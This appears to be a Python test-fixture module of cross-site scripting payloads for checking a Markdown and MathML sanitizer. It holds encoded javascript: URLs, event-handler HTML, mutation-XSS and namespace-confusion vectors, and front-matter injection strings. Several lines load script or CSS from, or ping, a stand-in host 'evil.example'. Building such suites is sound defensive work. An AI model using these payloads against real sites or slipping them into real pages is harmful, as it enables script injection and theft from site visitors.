"""Hostile inputs assembled from public knowledge (OWASP's filter evasion cheat sheet, the html5sec.org
vectors, mutation-XSS and namespace-confusion write-ups), placed in every context a Markdown page offers."""

from __future__ import annotations

SCRIPT_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java&#x09;script:alert(1)", "jav&#x0A;ascript:alert(1)", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;"
    "&#x70;&#x74;&#x3A;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript://%0Aalert(1)", "\x01javascript:alert(1)", "javascript:alert`1`", "jAvAsCrIpT&colon;alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)", "livescript:alert(1)", "feed:javascript:alert(1)",
]

HTML_VECTORS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>/*</script>*/alert(1)",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1);\">", "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><maction actiontype=statusline "
    "xlink:href=javascript:alert(1)>x</maction></math>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus "
    "onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  &#14;javascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
    "<span style=\"color:red;position:fixed;top:0\">x</span>", "<div style=\"behavior:url(x.htc)\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src "
    "onerror=alert(1)>\"></noembed>", "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<table><td background=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>", "<frameset onload=alert(1)>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>", "<div id=\"x\" onmouseover=\"alert(1)\">hover</div>",
    "<p onclick=alert(1)>click</p>", "<a id=\"__proto__\" name=\"csrf_token\">x</a>",
    "<form><input name=\"csrf_token\"></form>", "<img name=\"getElementById\" src=x>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><style><img src=x onerror=alert(1)>",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" onerror=alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", "<font color=\"red\" onmouseover=alert(1)>x</font>",
    "<font color=\"expression(alert(1))\">x</font>", "<font face=\"x\" size=\"99\" color=\"javascript:x\">x</font>",
    "<abbr title=\"x\" onfocus=alert(1) tabindex=0>x</abbr>", "<div draggable=true ondragstart=alert(1)>x</div>",
    "<a href=\"#\" target=\"_blank\" rel=\"opener\">x</a>", "<img srcset=\"javascript:alert(1) 1x\">",
    "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>", "<a ping=\"https://evil.example\" "
    "href=\"https://ok.example\">x</a>", "<img src=https://evil.example/track.gif width=1 height=1 "
    "onload=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<keygen autofocus onfocus=alert(1)>",
]

# TeX becomes MathML on the server, and MathML is allowed: TeX commands that would write links, styles or raw
# text, and hand-written MathML with the namespace-confusion tricks of the DOMPurify and Chromium mXSS reports.
MATH_VECTORS = [
    "$$\\text{<script>alert(1)</script>}$$", "$$\\text{</math><img src=x onerror=alert(1)>}$$",
    "$$\\href{javascript:alert(1)}{x}$$", "$$\\style{background:url(javascript:alert(1))}{x}$$",
    "$$\\class{masthead}{x}$$", "$$\\color{expression(alert(1))}{x}$$", "$$\\unicode{x}\\unicode{0}$$",
    "$$\\mathrm{<svg onload=alert(1)>}$$", "\\(\\text{<iframe src=javascript:alert(1)>}\\)",
    "$$\\hspace{-9999em}\\rule{999em}{999em}x$$", "$$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$$",
    "$$\\operatorname{<style>*{display:none}</style>}$$", "$$\\text{\x02wzxhzdk:0\x03}$$",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation encoding=\"text/html\"><img src=x onerror=alert(1)></annotation></semantics>"
    "</math>", "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<math><mi id=\"x\" class=\"masthead\" "
    "style=\"position:fixed;top:0\">x</mi></math>", "<math><mo lspace=\"-999em\">x</mo></math>",
    "<math><mstyle mathcolor=\"red;position:fixed\" mathbackground=\"url(javascript:alert(1))\">x</mstyle></math>",
    "<math><mi><![CDATA[</mi><img src=x onerror=alert(1)>]]></mi></math>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mglyph><style><img src=x onerror=alert(1)>", "<math><maction actiontype=\"toggle\"><mi>x</mi></maction>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<mi onclick=alert(1)>outside math</mi>",
    "<math><mi><math><mtext><img src=x onerror=alert(1)></mtext></math></mi></math>",
    "<math><ms><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></ms></math>",
    "`$$<img src=x onerror=alert(1)>$$`", "```\n$$<script>alert(1)</script>$$\n```",
    "```html\n<img src=x onerror=alert(1)>\n```", "```python\n'</code></pre><script>alert(1)</script>'\n```",
]

MARKDOWN_TEMPLATES = [
    "[click]({url})", "[click]({url} \"title\")", "![img]({url})", "![img](x \"{raw}\")", "<{url}>",
    "[ref][1]\n\n[1]: {url}", "[ref][r]\n\n[r]: {url} \"t\"", "![ref][i]\n\n[i]: {url}",
    "[x](https://ok.example){{: onclick=\"alert(1)\"}}", "Para\n{{: onmouseover=\"alert(1)\" }}",
    "[x]({url}){{: .btn}}", "<div markdown=\"1\">\n[x]({url})\n</div>",
    "<div markdown=\"1\" onclick=\"alert(1)\">\n*x*\n</div>", "```\n{raw}\n```\n\n{raw}", "> {raw}",
    "* item {raw}", "| a |\n|---|\n| {raw} |", "Text[^1]\n\n[^1]: {raw}",
]


def markdown_vectors() -> list[str]:
    vectors = []
    for template in MARKDOWN_TEMPLATES:
        if "{url}" in template:
            vectors += [template.format(url=url, raw="") for url in SCRIPT_URLS]
        else:
            vectors += [template.format(raw=raw, url="") for raw in HTML_VECTORS[:12]]
    return vectors


FRONT_MATTER_VECTORS = [
    ("title", "\"</title><script>alert(1)</script>\""), ("title", "\"<img src=x onerror=alert(1)>\""),
    ("title", "'\"><svg onload=alert(1)>'"), ("excerpt", "\"<script>alert(1)</script>\""),
    ("excerpt", "\"\\\" onmouseover=alert(1) x=\\\"\""), ("description", "\"</script><script>alert(1)</script>\""),
    ("nav_title", "\"<img src=x onerror=alert(1)>\""), ("title", "\"{{ 7*7 }}\""),
]


def all_body_vectors() -> list[str]:
    return HTML_VECTORS + MATH_VECTORS + [f"[x]({url})" for url in SCRIPT_URLS] + markdown_vectors()
